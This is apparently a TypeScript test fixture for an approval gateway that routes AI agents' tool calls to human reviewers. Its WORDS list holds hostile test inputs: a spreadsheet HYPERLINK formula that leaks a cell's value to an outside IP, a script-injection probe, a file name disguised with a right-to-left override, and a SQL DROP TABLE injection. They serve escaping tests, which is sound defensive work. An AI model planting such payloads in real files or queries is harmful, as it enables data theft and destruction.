import { join } from 'node:path';
import { ROOT } from '../workspace.ts';

/** Of what the workload's workspace is made. */

/** Bob's and Ben's agents; `batch` comes over HTTP, and `spare` never does. */
const AGENTS = `agents:
  - { id: claude, owner: bob, cool_down: 0s, max_pending: 1000 }
  - { id: cursor, owner: bob, cool_down: 0s, max_pending: 1000 }
  - { id: batch, owner: ben, cool_down: 0s, max_pending: 1000 }
  - { id: spare, owner: ben, cool_down: 0s }
`;

/**
 * Alice, Frank and Grace decide by link, Carol by passkey, Dan by a key at the API. No mail reaches Erin.
 *
 * @param actsFor for whom Bob acts
 */
export function peopleText(actsFor: readonly string[] = []): string {
  const bob = actsFor.length === 0 ? '' : `, acts_for: [${actsFor.join(', ')}]`;
  return `people:
  - { id: alice, name: Alice Ng, emails: [alice@example.com] }
  - { id: bob, name: Bob Ito, emails: [bob@example.com]${bob} }
  - { id: ben, name: Ben Okafor, emails: [ben@example.com] }
  - { id: carol, name: Carol Roy, emails: [carol@example.com] }
  - { id: dan, name: Dan Weiss, emails: [dan@example.com] }
  - { id: erin, name: Erin Sato, emails: [erin@example.com] }
  - { id: frank, name: Frank Diaz, emails: [frank@example.com] }
  - { id: grace, name: Grace Lund, emails: [grace@example.com] }
fallback: [frank]
${AGENTS}`;
}

/** @param denied a tool that is denied from now on */
export function rulesText(denied?: string): string {
  const more = denied === undefined ? '' : `, ${denied}`;
  return `unmatched: deny
review: { reviewers: [carol], verification: passkey }
rules:
  - id: reads
    match: { server: [ledger, notes, fragile], tool: ["read_*", "fail_read", "stall_freely"] }
    verdict: allow
  - id: no-drops
    match: { server: ledger, tool: [drop_table${more}] }
    verdict: deny
  - id: by-link
    match: { server: [ledger, notes], tool: [write_entry, fail_write, refund, post_note] }
    verdict: review
    review: { reviewers: [alice, carol], verification: link }
  - id: by-passkey
    match: { server: [ledger, fragile], tool: [transfer, stall] }
    verdict: review
  - id: by-key
    match: { server: ledger, tool: tag_entry }
    verdict: review
    review: { reviewers: [dan, carol], verification: link, api: decide }
  - id: by-two
    match: { server: ledger, tool: post_invoice }
    verdict: review
    review: { reviewers: [alice, carol], quorum: 2, verification: link, reason: required }
  - id: short
    match: { server: ledger, tool: offer }
    verdict: review
    review: { reviewers: [alice], verification: link, expires: 20s }
  - id: escalating
    match: { server: ledger, tool: alarm }
    verdict: review
    review: { reviewers: [alice], verification: link, escalate: { after: 1s, to: [frank] } }
  - id: half-reached
    match: { server: ledger, tool: reach_one }
    verdict: review
    review: { reviewers: [erin, alice], verification: link }
  - id: unreached
    match: { server: ledger, tool: reach_nobody }
    verdict: review
    review: { reviewers: [erin], verification: link }
  - id: own
    match: { server: ledger, tool: own_budget }
    verdict: review
    review: { reviewers: [bob, alice], verification: link }
  - id: shared
    match: { server: ledger, tool: share_entry }
    verdict: review
    review: { reviewers: [grace, alice], verification: link }
  - id: secretive
    match: { server: ledger, tool: set_password }
    verdict: review
    secret: [args.note]
    review: { reviewers: [alice], verification: link, reveal: allowed }
`;
}

/** Whom the rules above ask about a tool, and the post reaches. */
export const REACHED: Readonly<Record<string, readonly string[]>> = {
  write_entry: ['alice', 'carol'],
  fail_write: ['alice', 'carol'],
  refund: ['alice', 'carol'],
  post_note: ['alice', 'carol'],
  transfer: ['carol'],
  stall: ['carol'],
  tag_entry: ['dan', 'carol'],
  post_invoice: ['alice', 'carol'],
  offer: ['alice'],
  alarm: ['alice'],
  reach_one: ['alice'],
  reach_nobody: [],
  own_budget: ['alice'],
  share_entry: ['grace', 'alice'],
  set_password: ['alice'],
};

const LEDGER_TOOLS =
  `read_entry read_balance read_accounts fail_read drop_table write_entry fail_write refund transfer
tag_entry post_invoice offer alarm reach_one reach_nobody own_budget share_entry set_password`.split(/\s/);
const SERVERS = join(ROOT, 'test/support/servers');
const LEDGER = join(SERVERS, 'ledger.mjs');

/** Members of `mcpServers`; paths in them start at the workspace. */
export function servers(): Record<string, unknown> {
  const command = process.execPath;
  return {
    ledger: { command, args: [LEDGER, 'files', ...LEDGER_TOOLS] },
    fragile: { command, args: [LEDGER, 'files', 'stall', 'stall_freely'] },
    notes: { command, args: [join(SERVERS, 'shifting.mjs'), 'notes/tools.json'] },
  };
}

/** @param edition the definition of `post_note` is another one with each */
export function notesTools(edition: number): string {
  const inputSchema = { type: 'object', properties: { note: { type: 'string' } } };
  return JSON.stringify([
    { name: 'read_note', description: 'Reads a note.', inputSchema },
    { name: 'post_note', description: `Puts a note on the board, in edition ${edition}.`, inputSchema },
  ]);
}

/** What nobody may read on any disk. */
export const PASSWORD = 'correct-horse-battery-staple';

/** What agents and people write, some of it to harm whoever opens it in a table or a page. */
export const WORDS = [
  'as agreed by telephone',
  '=HYPERLINK("http://203.0.113.9/?"&A1,"Open")',
  '+1 from me',
  '-2+3',
  '@SUM(A1:A9)',
  '<script>alert(1)</script>',
  'a "quoted", and, a comma',
  'two\nlines',
  'pay \u202egpj.exe now',
  'Grüße, 東京, 🧾',
  "'; DROP TABLE calls; --",
];
